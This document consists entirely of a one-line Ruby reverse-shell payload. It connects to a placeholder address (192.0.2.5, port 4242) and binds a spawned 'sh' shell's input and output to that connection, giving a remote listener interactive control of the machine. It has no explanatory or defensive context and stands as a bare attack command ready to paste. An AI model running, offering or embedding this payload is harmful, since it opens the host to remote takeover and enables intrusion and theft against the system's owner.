ruby -rsocket -e'spawn("sh",[:in,:out,:err]=>TCPSocket.new("192.0.2.5",4242))'
